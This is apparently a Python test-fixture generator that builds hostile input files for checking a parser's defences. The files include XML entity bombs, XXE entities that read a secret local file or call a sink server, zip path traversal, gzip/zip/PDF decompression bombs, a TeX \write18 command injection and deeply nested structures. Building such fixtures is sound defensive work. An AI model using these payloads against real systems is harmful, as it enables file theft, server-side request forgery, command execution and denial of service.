"""Files that are made to harm whoever reads them, each small on disk or made when it is asked for.

    make_files(sink, secret) -> contents by file name

`sink` is the address of a server that must not be asked, `secret` a file outside of the project
that must not be read.
"""

import gzip
import io
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

MB = 1024 * 1024
_ZEROS = b"0" * (10 * MB)
_XLSX = "xl/worksheets/sheet1.xml"
_DOCX = "word/document.xml"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def make_files(sink: str, secret: Path) -> dict[str, bytes]:
    """Return the contents of each hostile file by its name."""
    return {
        **_make_xml(sink, secret),
        **_make_pages(sink, secret),
        **_make_json(sink, secret),
        **_make_turtle(sink, secret),
        **_make_archives(sink, secret),
        **_make_bibliographies(secret),
        **_make_pdfs(),
        **_make_texts(),
    }


def _make_bomb(root: str, levels: int = 9) -> str:
    """Return a DTD whose last entity is 10 to the power of `levels` times as long as its first."""
    rows = [f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, levels + 1)]
    return f'<!DOCTYPE {root} [<!ENTITY e0 "lol">{"".join(rows)}]>'


def _make_xml(sink: str, secret: Path) -> dict[str, bytes]:
    rdf = (
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
        'xmlns:d="http://purl.org/dc/terms/"><rdf:Description rdf:about="http://x/{about}">'
        "<d:title>{title}</d:title></rdf:Description></rdf:RDF>"
    )
    bomb = _make_bomb("rdf:RDF") + rdf.format(about="a", title="&e9;")
    external = f'<!DOCTYPE x [<!ENTITY s SYSTEM "{secret.as_uri()}"><!ENTITY n SYSTEM "{sink}/e">'
    outer = f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{sink}/p.dtd"> %p;]>'
    long = f'<!DOCTYPE x [<!ENTITY a "{"x" * 100_000}">]><x>{"&a;" * 10_000}</x>'
    deep = "<d:title>" * 100_000
    return {
        "bomb.xml": (_make_bomb("x") + "<x>&e9;</x>").encode(),
        "bomb.rdf": bomb.encode(),
        "bomb-utf16.rdf": bomb.encode("utf-16"),
        "bomb-with-declaration.rdf": ('<?xml version="1.0"?>\n' + bomb).encode(),
        "bomb.graphml": (_make_bomb("graphml") + "<graphml>&e9;</graphml>").encode(),
        "instructions.xml": b"<?xml version='1.0'?>" * 40 + b"<x>y</x>",
        "long-entity.xml": long.encode(),
        "external.xml": f"{external}]><x>&s;&n;</x>".encode(),
        "external.rdf": (f"{external}]>" + rdf.format(about="b", title="&s;&n;")).encode(),
        "external-dtd.xml": f'<!DOCTYPE x SYSTEM "{sink}/x.dtd"><x>y</x>'.encode(),
        "parameter.rdf": (outer + rdf.format(about="c", title="t")).encode(),
        "stylesheet.xml": f'<?xml-stylesheet href="{sink}/s.xsl"?><x>y</x>'.encode(),
        "include.xml": (
            '<x xmlns:i="http://www.w3.org/2001/XInclude">'
            f'<i:include href="{secret.as_uri()}" parse="text"/></x>'
        ).encode(),
        "deep.rdf": rdf.format(about="d", title=deep).encode(),
        "many-attributes.xml": (
            "<x " + " ".join(f'a{n}=""' for n in range(100_000)) + "/>"
        ).encode(),
    }


def _make_pages(sink: str, secret: Path) -> dict[str, bytes]:
    page = "<!DOCTYPE html><html><head>{head}</head><body><h1>A Page</h1>{body}</body></html>"
    fetching = (
        f'<base href="{sink}/"><meta http-equiv="refresh" content="0;url={sink}/r">'
        f'<link rel="stylesheet" href="{sink}/s.css"><script src="{sink}/s.js"></script>'
        '<script type="application/ld+json">'
        f'{{"@context": "{sink}/c.jsonld", "name": "x"}}</script>'
    )
    inner = (
        f'<img src="{sink}/i.png"><iframe src="{secret.as_uri()}"></iframe>'
        f'<object data="{sink}/o"></object><video src="{sink}/v"></video>'
    )
    svg = _make_bomb("svg") + '<svg xmlns="http://www.w3.org/2000/svg"><text>&e9;</text></svg>'
    return {
        "fetching.html": page.format(head=fetching, body=inner).encode(),
        "svg-bomb.html": page.format(head="", body=svg).encode(),
        "svg-bomb.svg": svg.encode(),
        "deep.html": page.format(head="", body="<div>" * 100_000).encode(),
        "deep-lists.html": page.format(head="", body="<ul><li><a><b><i>" * 5_000).encode(),
        "unclosed.html": b"<!DOCTYPE html><html><head><title>" + b"<p " * 100_000,
        "flat.html": page.format(head="", body="<p>Some words.</p>" * 200_000).encode(),
        "many-scripts.html": page.format(
            head='<script type="application/ld+json">[[[[{"a":</script>' * 5_000, body=""
        ).encode(),
        "deep-script.html": page.format(
            head=f'<script type="application/ld+json">{"[" * 100_000}</script>', body=""
        ).encode(),
        "comment.html": page.format(head="", body="<!--" * 50_000).encode(),
        "many-attributes.html": page.format(
            head="", body=f"<p {' '.join(f'a{n}=1' for n in range(50_000))}>x</p>"
        ).encode(),
        "deep.md": b"# A Page\n\n" + b"> " * 20_000 + b"x\n" + b"[" * 50_000 + b"\n",
        "emphasis.md": b"# A Page\n\n" + b"*a **b " * 20_000 + b"\n" + b"`" * 50_000 + b"\n",
        "lists.md": b"".join(b" " * n + b"- x\n" for n in range(300)),
    }


def _make_json(sink: str, secret: Path) -> dict[str, bytes]:
    work = '{"id": "https://openalex.org/W1", "title": %s, "authorships": []}'
    remote = '{"@context": "%s", "@id": "http://x/a", "name": "A"}'
    imported = '{"@context": {"@version": 1.1, "@import": "%s/c.jsonld"}, "@id": "http://x/a"}'
    return {
        "deep.json": b"[" * 10_000 + b"]" * 10_000,
        "deeper.json": b"[" * 1_000_000,
        "deep-objects.json": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
        "deep-work.json": (work % ("[" * 10_000 + "]" * 10_000)).encode(),
        "deep.jsonl": (work % '"A"' + "\n" + '{"a":' * 10_000 + "\n" + work % '"B"').encode(),
        "huge-number.json": (work % ("9" * 100_000)).encode(),
        "huge-exponent.json": (work % "1e999999999").encode(),
        "not-a-number.json": (work % "NaN").encode(),
        "half-a-letter.json": (work % '"\\ud800 and \\u0000"').encode(),
        "half-a-letter.jsonl": ((work % '"\\udfff"' + "\n") * 3).encode(),
        "wrong-kinds.json": b'[1, null, "x", [], {"id": [], "title": {}, "authorships": "x"}]',
        "equal-keys.json": ("{" + '"title": "x", ' * 10_000 + '"title": 1}').encode(),
        "remote-context.jsonld": (remote % f"{sink}/context.jsonld").encode(),
        "remote-contexts.jsonld": f'{{"@context": ["{sink}/a", "{sink}/b"]}}'.encode(),
        "file-context.jsonld": (remote % secret.as_uri()).encode(),
        "import.jsonld": (imported % sink).encode(),
        "deep.jsonld": b'{"@id": "http://x/a", "http://x/p": ' * 10_000 + b"1" + b"}" * 10_000,
        "context-in-circles.jsonld": b'{"@context": {"a": "b:c", "b": "a:c"}, "a": "x"}',
    }


def _make_turtle(sink: str, secret: Path) -> dict[str, bytes]:
    imports = "<http://x/o> <http://www.w3.org/2002/07/owl#imports> <{}> .\n"
    see = "<http://x/o> <http://www.w3.org/2000/01/rdf-schema#seeAlso> <{}> .\n"
    text = imports.format(f"{sink}/o.ttl") + imports.format(secret.as_uri()) + see.format(sink)
    return {
        "imports.ttl": text.encode(),
        "deep-lists.ttl": b"<http://x/a> <http://x/b> " + b"(" * 100_000,
        "deep-nodes.ttl": b"<http://x/a> <http://x/b> " + b"[ <http://x/b> " * 100_000,
        "prefixes.ttl": b"".join(b"@prefix p%d: <http://x/%d#> .\n" % (n, n) for n in range(2_000)),
        "long-literal.nt": b'<http://x/a> <http://x/b> "' + b"x" * (20 * MB) + b'" .\n',
        "bad-iri.nt": b"<http://x/a> <http://x/b> <http://x/a b\\u0020> .\n<x> <y> <z",
        "base.ttl": f"@base <{secret.as_uri()}> .\n<> <#a> <../b> .\n".encode(),
    }


def _zip(
    members: dict[str, bytes], *, also: Callable[[zipfile.ZipFile], None] | None = None
) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
        if also:
            also(archive)
    return stream.getvalue()


def make_workbook(sheet: bytes, shared: bytes = b"") -> dict[str, bytes]:
    """Return the parts of a workbook whose only sheet is given."""
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    parts = {
        "[Content_Types].xml": (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType='
            '"application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{kind}.sheet.main+xml"/>'
            f'<Override PartName="/{_XLSX}" ContentType="{kind}.worksheet+xml"/>'
            f'<Override PartName="/xl/sharedStrings.xml" ContentType="{kind}.sharedStrings+xml"/>'
            "</Types>"
        ).encode(),
        "_rels/.rels": _relate(("officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": (
            f'<workbook xmlns="{_MAIN}" xmlns:r="{_OFFICE}"><sheets>'
            '<sheet name="People" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ).encode(),
        "xl/_rels/workbook.xml.rels": _relate(
            ("worksheet", "worksheets/sheet1.xml"), ("sharedStrings", "sharedStrings.xml")
        ),
        _XLSX: sheet,
    }
    empty = f'<sst xmlns="{_MAIN}"/>'.encode()
    return {**parts, "xl/sharedStrings.xml": shared or empty}


def make_text_document(body: bytes, head: bytes = b"") -> dict[str, bytes]:
    """Return the parts of a DOCX file with this body."""
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return {
        "[Content_Types].xml": (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType='
            '"application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Override PartName="/{_DOCX}" ContentType="{kind}"/></Types>'
        ).encode(),
        "_rels/.rels": _relate(("officeDocument", _DOCX)),
        _DOCX: head + f'<w:document xmlns:w="{_WORD}"><w:body>'.encode() + body
        + b"</w:body></w:document>",
    }  # fmt: skip


def _relate(*targets: tuple[str, str]) -> bytes:
    rows = "".join(
        f'<Relationship Id="rId{n}" Type="{_OFFICE}/{kind}" Target="{target}"/>'
        for n, (kind, target) in enumerate(targets, start=1)
    )
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<Relationships xmlns="{space}">{rows}</Relationships>'.encode()


def make_sheet(*cells: tuple[str, str]) -> bytes:
    """Return a sheet of text cells, given by their place."""
    rows = "".join(
        f'<row r="{"".join(filter(str.isdigit, place))}"><c r="{place}" t="inlineStr">'
        f"<is><t>{text}</t></is></c></row>"
        for place, text in cells
    )
    return f'<worksheet xmlns="{_MAIN}"><sheetData>{rows}</sheetData></worksheet>'.encode()


def make_open_workbook(row: bytes, opening: bytes = b"") -> dict[str, bytes]:
    """Return the parts of a workbook of OpenDocument: a row of one cell."""
    space = b"urn:oasis:names:tc:opendocument:xmlns"
    content = (
        b"<o:x xmlns:o='%b:office:1.0' xmlns:t='%b:table:1.0'><t:table>%b<t:table-cell"
        b" o:value-type='float' o:value='1'/></t:table-row></t:table></o:x>"
    ) % (space, space, row)
    media_type = b"application/vnd.oasis.opendocument.spreadsheet"
    return {"mimetype": media_type, "content.xml": opening + content}


def _make_archives(sink: str, secret: Path) -> dict[str, bytes]:
    big = make_sheet(("A1", "Name"), ("A2", "0" * (300 * MB)))
    entities = _make_bomb("worksheet").encode() + make_sheet(("A1", "&e9;"))
    external = f'<!DOCTYPE x [<!ENTITY s SYSTEM "{secret.as_uri()}"><!ENTITY n SYSTEM "{sink}/e">]>'
    paragraph = b"<w:p><w:r><w:t>%s</w:t></w:r></w:p>"
    good = make_workbook(make_sheet(("A1", "Name"), ("A2", "Ada")))
    linked = good | {"xl/externalLinks/_rels/externalLink1.xml.rels": _relate(("x", f"{sink}/l"))}
    return {
        "bomb.xlsx": _zip(make_workbook(big)),
        "far-cell.xlsx": _zip(make_workbook(make_sheet(("A1", "Name"), ("XFD1048576", "Ada")))),
        "entities.xlsx": _zip(make_workbook(entities)),
        "external.xlsx": _zip(make_workbook(external.encode() + make_sheet(("A1", "&s;&n;")))),
        "links.xlsx": _zip(linked),
        "climbing.xlsx": _zip(good | {"../../climbed.txt": b"x", "/climbed.txt": b"x"}),
        "half.xlsx": _zip(good)[:-200],
        "zip.xlsx": _zip({"a.txt": b"x"}),
        "rows.ods": _zip(make_open_workbook(b"<t:table-row t:number-rows-repeated='999999999'>")),
        "entities.ods": _zip(make_open_workbook(b"<t:table-row>", _make_bomb("x").encode())),
        "bomb.docx": _zip(make_text_document(paragraph % (b"0" * (300 * MB)))),
        "relations.docx": _zip(
            {
                "_rels/.rels": b"<Relationship Type='x/officeDocument' Target='\xff'/>",
                _DOCX: b"<x/>",
                "[Content_Types].xml": b"<x/>",
            }
        ),
        "entities.docx": _zip(make_text_document(paragraph % b"&e9;", _make_bomb("x").encode())),
        "external.docx": _zip(make_text_document(paragraph % b"&s;&n;", external.encode())),
        "deep.docx": _zip(make_text_document(b"<w:p>" * 100_000)),
        "bomb.txt.gz": gzip.compress(_ZEROS) * 1_000,
        "bomb.jsonl.gz": gzip.compress(_ZEROS) * 1_000,
        "lines.txt.gz": gzip.compress(b"\n" * (10 * MB)) * 100,
        "half.csv.gz": gzip.compress(b"name,role\nAda,Director\n" * 1_000)[:-20],
        "nested.txt.gz": gzip.compress(gzip.compress(b"A Page\n")),
        "parquet.parquet": b"PAR1" + bytes(range(256)) + b"\xff\xff\xff\x7fPAR1",
    }


def _make_bibliographies(secret: Path) -> dict[str, bytes]:
    chain = "@string{a0 = {lol}}\n" + "".join(
        f"@string{{a{n} = {' # '.join([f'a{n - 1}'] * 10)}}}\n" for n in range(1, 10)
    )
    entry = "@article{k, title = %s, author = {Ada Lovelace}, year = 1843}\n"
    tex = rf"{{\input{{{secret}}} \write18{{touch climbed}} \loop\iftrue\repeat}}"
    return {
        "chain.bib": (chain + entry % "a9").encode(),
        "unclosed.bib": (entry % "{A}" + "@article{" + "{" * 200_000).encode(),
        "closed.bib": (entry % "{A}" + "@article{k" + "}" * 200_000).encode(),
        "tex.bib": (entry % tex).encode(),
        "circle.bib": b"@article{a, crossref = {b}}\n@article{b, crossref = {a}}\n",
        "itself.bib": b"@string{a = a # a}\n@article{a, title = a, crossref = {a}}\n",
        "many-names.bib": (entry % "{A}").replace("Ada Lovelace", "A and " * 50_000).encode(),
        "commas.bib": (entry % "{A}").replace("Ada Lovelace", "," * 50_000).encode(),
        "accents.bib": (entry % ("{" + r"{\"{" * 20_000 + "}")).encode(),
        "percents.txt": b"%T One" * 2_000,
        "garbage.ris": b"TY  - JOUR\nTI  - A\n" + b"  - x\nER  -\n" * 10_000,
        "open.ris": b"TY  - JOUR\n" * 50_000,
        "wide.csv": b"name" + b",x" * 200_000 + b"\nAda" + b"," * 200_000 + b"\n",
        "open-quote.csv": b'name,role\n"Ada' + b",x\n" * 20_000,
        "ragged.csv": b"name,role\n" + b"".join(b"," * n + b"x\n" for n in range(300)),
    }


def _make_pdfs() -> dict[str, bytes]:
    def write(*objects: bytes) -> bytes:
        body, places = b"%PDF-1.7\n", []
        for number, content in enumerate(objects, start=1):
            places.append(len(body))
            body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
        table = b"".join(b"%010d 00000 n \n" % place for place in places)
        size = len(objects) + 1
        head = b"xref\n0 %d\n0000000000 65535 f \n" % size
        trailer = b"trailer\n<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF\n"
        return body + head + table + trailer % (size, len(body))

    catalog, pages = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[%s]/Count 1>>"
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>"
    packed = zlib.compress(b"(x) Tj " * (20 * MB))
    stream = b"<</Length %d/Filter/FlateDecode>>\nstream\n%s\nendstream" % (len(packed), packed)
    return {
        "bomb.pdf": write(catalog, pages % b"3 0 R", page, stream),
        "circle.pdf": write(catalog, pages % b"2 0 R"),
        "deep.pdf": write(catalog, b"[" * 100_000),
        "half.pdf": write(catalog, pages % b"3 0 R", page, stream)[:300],
        "no-pages.pdf": b"%PDF-1.7\n%%EOF\n",
    }


def _make_texts() -> dict[str, bytes]:
    return {
        "only-an-orcid.txt": b"https://orcid.org/0000-0002-1825-0097\n",
        "empty.txt": b"",
        "blank.txt": b" \n\t\r\n\xc2\xa0\n",
        "zeros.txt": bytes(MB),
        "zeros-inside.txt": b"A Page\n\nAda\x00 Lovelace, Director\nOn\x00 Engines\nA teaser.\n",
        "bad-utf8.txt": b"A Page\n\n\xff\xfe\xfa Lovelace\xc3\n\xed\xa0\x80\n",
        "marks.txt": b"\xff\xfe\x00\x00\xef\xbb\xbfA Page\n",
        "half-utf16.txt": b"\xff\xfeA\x00 \x00P",
        "many-lines.txt": b"x\n" * 20_000,
        "many-bylines.txt": b"Ada Lovelace, Director, Engines\n" * 20_000,
        "commas.txt": b"A Page\n" + (b"A, " * 6_000 + b"\n") * 20,
        "brackets.txt": b"A Page\n" + (b"(" * 15_000 + b"\n") * 20,
        "ampersands.txt": b"A Page\n" + (b"A & " * 4_000 + b"\n") * 20,
        "accents.txt": ("A Page\n" + "e" + "\u0301" * 15_000 + "\n").encode(),
        "turning.txt": "A Page\n\n\u202eAda\u202c Lovelace, \x1b]0;x\x07Director\n".encode(),
        "separators.txt": "A Page\x85Ada\u2028Lovelace\u2029Director\x0b\x0c\x1c\x1d\n".encode(),
        "one-long-line.txt": b"x" * (100 * MB),
    }
